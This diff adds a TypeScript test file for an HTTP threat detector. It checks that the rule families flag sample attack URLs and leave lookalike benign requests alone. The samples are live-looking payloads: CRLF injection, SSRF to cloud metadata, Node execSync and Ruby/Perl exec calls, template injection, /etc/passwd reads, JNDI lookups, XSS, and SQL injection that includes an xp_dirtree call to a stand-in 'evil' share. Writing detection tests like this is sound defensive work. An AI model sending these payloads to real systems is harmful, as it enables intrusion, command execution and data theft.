@@ -1,0 +1,146 @@
+/**
+ * The rule families added for HTTP protocol abuse, session fixation, server-side injections (Node.js, Ruby,
+ * Perl, templates, SSRF to internal and metadata addresses) and more PHP, XSS and SQL syntax: each against
+ * attacks written from the technique and against benign requests that look like them.
+ */
+import { describe, expect, it } from 'vitest';
+import { httpThreatConfig } from './config.js';
+import { charMask, maskOf } from './char-gate.js';
+import { DETECTORS } from './detectors.js';
+import { HttpThreat } from './http-threat.js';
+import { normalise } from './normalise.js';
+
+const scorer = new HttpThreat(httpThreatConfig.parse({}));
+const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0';
+
+/** The detectors that fire at or above the alert threshold. */
+function detectorsOf(url: string, referrer?: string, userAgent = BROWSER): string[] {
+  const verdict = scorer.score(url, userAgent, referrer);
+  return verdict === undefined || verdict.score < 0.5 ? [] : verdict.reasons.map((r) => r.detector);
+}
+
+const ATTACKS: ReadonlyArray<readonly [string, string]> = [
+  ['protocol-crlf-header', '/page?lang=en%0d%0aSet-Cookie:%20admin=1'],
+  ['protocol-crlf-header', '/a?x=1%0d%0a%0d%0aGET%20/admin%20HTTP/1.1'],
+  ['protocol-null-byte', '/download?file=report.pdf%00.php'],
+  ['protocol-encoding-abuse', '/scripts/%c0%af../winnt/system32/cmd.exe'],
+  ['protocol-encoding-abuse', '/a?x=%uff1cscript%uff1e'],
+  ['protocol-encoding-abuse', '/a?x=%2527'],
+  ['protocol-encoding-abuse', '/a?x=%zz'],
+  ['protocol-raw-fragment', '/page#frag?x=1'],
+  ['protocol-response-splitting', '/redirect?to=/%0d%0aHTTP/1.1%20200%20OK'],
+  ['protocol-mod-proxy', '/unix:/run/php.sock|http://internal/'],
+  ['protocol-method-override', '/api/users/7?_method=DELETE'],
+  ['protocol-ldap-injection', '/login?user=*)(uid=*))(|(uid=*'],
+  ['protocol-ldap-injection', '/find?cn=admin)(|(password=*)'],
+  ['protocol-restricted-extension', '/backup/site.sql'],
+  ['protocol-restricted-extension', '/web.config.bak'],
+  ['protocol-restricted-extension', '/index.php~'],
+  ['session-cookie-set', '/p?x=<script>document.cookie="sessionid=1234;path=/"</script>'],
+  ['session-cookie-set', '/p?x=<meta http-equiv="Set-Cookie" content="sid=1">'],
+  ['session-id-param', '/login?session_id=attacker-chosen'],
+  ['session-id-param', '/app;jsessionid=0123456789ABCDEF'],
+  ['generic-data-scheme', '/index.php?page=data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=='],
+  ['generic-ssrf-internal-host', '/fetch?url=localhost:6379/'],
+  ['generic-ssrf-internal-host', '/fetch?url=//metadata.google.internal/computeMetadata/v1/'],
+  ['generic-ssrf-internal-host', '/fetch?url=http://redis.svc.cluster.local:6379'],
+  ['generic-cloud-metadata', '/fetch?u=http://169.254.169.254/latest/meta-data/iam/'],
+  ['generic-ssrf-ip-url', '/proxy?target=gopher://10.0.0.5:25/_HELO'],
+  ['generic-ssrf-ip-url', '/proxy?target=http://[fe80::1]/'],
+  ['generic-node-call', "/api?x=require('child_process').execSync('id')"],
+  ['generic-node-call', '/api?x=this.constructor.constructor(%22return process%22)()'],
+  ['generic-node-call', '/api?x=process.mainModule.require(%22fs%22)'],
+  ['generic-ruby', '/api?x=Kernel.exec(%22id%22)'],
+  ['generic-ruby', '/api?x=%25x{id}'],
+  ['generic-ruby', '/api?x=IO.popen(%22ls%22).read'],
+  ['generic-perl', '/api?x=@{[system "id"]}'],
+  ['generic-perl', "/api?x=use IO::Socket;"],
+  ['generic-template-syntax', '/p?name={%25 for x in ().__class__.__base__.__subclasses__() %25}'],
+  ['generic-template-syntax', '/p?name={{7*%277%27}}'],
+  ['generic-template-syntax', '/p?name=<%23assign ex="freemarker.template.utility.Execute"?new()>'],
+  ['rce-sqlite-system', "/q?x=1';.system id"],
+  ['rce-history', '/q?x=;!-2'],
+  ['rce-variable-evasion', '/q?x=;ca$u /etc$u/passwd'],
+  ['rce-direct-command', '/q?cmd=whoami'],
+  ['rce-direct-command', '/q?cmd=net user'],
+  ['php-risky-name', '/q?cb=base64_decode'],
+  ['php-directive', '/q?x=allow_url_fopen=1'],
+  ['php-closing-tag', '/q?x=echo 1; ?>'],
+  ['php-serialized', '/q?d=a:1:{i:0;O:8:"stdClass":0:{}}'],
+  ['php-superglobal', '/q?x=$HTTP_RAW_POST_DATA'],
+  ['xss-jsfuck', '/q?x=[][(![]%2B[])[%2B[]]%2B(![]%2B[])[!%2B[]%2B!%2B[]]]'],
+  ['xss-utf7', '/q?x=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-'],
+  ['xss-global-access', "/q?x=window['al'%2B'ert'](1)"],
+  ['xss-no-parentheses', '/q?x=alert`1`'],
+  ['xss-no-parentheses', '/q?x=onerror=alert;throw 1'],
+  ['xss-deny-list', '/q?x=<div style="-moz-binding:url(x.xml%23xss)">'],
+  ['xss-ascii-malformed', '/q?x=%BCscript%BEalert(1)%BC/script%BE'],
+  ['sqli-quote-operator-quote', "/login?user=admin'='"],
+  ['sqli-subquery', '/item?id=1 and exists(select * from users)'],
+  ['sqli-case-when', '/item?id=(case when 1=1 then 1 else 2 end)'],
+  ['sqli-server-objects', '/item?id=1;exec xp_dirtree %27\\\\evil\\a%27'],
+  ['sqli-hex-string', '/item?id=1 and 1=unhex(0x41414141)'],
+];
+
+const BENIGN: readonly string[] = [
+  '/search?q=100%25+cotton+shirt',
+  '/search?q=c%23+for+beginners',
+  '/api/orders?sort=uname&order=asc&page=2',
+  '/admin/report?fields=session,created_at&limit=10',
+  '/feed?style=%3C%3Fxml+version%3D%221.0%22%3F%3E',
+  '/search?q=(select+a+size)',
+  '/search?q=window+film+%5Bfrosted%5D',
+  '/search?q=%22one%22+or+%22two%22',
+  '/search?q=base+64+ruler',
+  '/blog/how-localhost-works',
+  '/redirect?next=https://shop.example/account',
+  '/static/js/app.3f2a1b9c.min.js',
+  '/docs/release-notes-1.2.conf.html',
+  '/search?q=net+curtains',
+  '/search?q=io+games',
+  '/search?q=file+cabinet',
+  '/search?q=dir+en+grey+cd',
+  '/products?color=red&_=1733400000000',
+  '/search?q=%E2%9C%93+checked',
+];
+
+describe('rule families', () => {
+  it.each(ATTACKS.map(([detector, url]) => ({ detector, url })))('$detector: $url', ({ detector, url }) => {
+    expect(detectorsOf(url)).toContain(detector);
+  });
+
+  it.each(BENIGN)('leaves %s alone', (url) => {
+    expect(scorer.score(url, BROWSER, undefined)).toBeUndefined();
+  });
+
+  it('takes a session id in the URL for fixation only when the request has no Referer', () => {
+    expect(detectorsOf('/cart?jsessionid=ABC123')).toContain('session-id-param');
+    expect(detectorsOf('/cart?jsessionid=ABC123', 'https://shop.example/products')).not.toContain('session-id-param');
+    expect(detectorsOf('/cart?jsessionid=ABC123', '-')).toContain('session-id-param');
+  });
+
+  it('reads the encoding in the value as logged: a null byte decoded away still counts, a valid escape does not', () => {
+    expect(detectorsOf('/f?name=a%00b')).toContain('protocol-null-byte');
+    expect(detectorsOf('/f?name=a%20b')).toEqual([]);
+  });
+
+  it("never skips a pattern that would match: each detector's gate characters are in every value it matches", () => {
+    const samples = [...ATTACKS.map(([, url]) => url), ...BENIGN, "/a?x=1' union/**/select 1", '/a?x=${${lower:j}ndi:x}', '/a?x=c\\a\'t /etc/passwd', '/a?%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'];
+    let checked = 0;
+    for (const sample of samples) {
+      const views = normalise(sample, 3);
+      for (const det of DETECTORS) {
+        if (det.chars === undefined || !det.pattern.test(views[det.view])) continue;
+        checked++;
+        expect(charMask(det.view === 'raw' ? views.raw : views.text) & maskOf(det.chars), `${det.id} on ${sample}`).not.toBe(0);
+      }
+    }
+    expect(checked).toBeGreaterThan(ATTACKS.length);
+  });
+
+  it('gates on punctuation only: an unknown character is refused, a non-ASCII one shares a bit', () => {
+    expect(() => maskOf('a')).toThrow(/not a gated character/);
+    expect(charMask('é') & maskOf('\u00bc')).not.toBe(0);
+    expect(charMask('plain-words') & maskOf('<(')).toBe(0);
+  });
+});
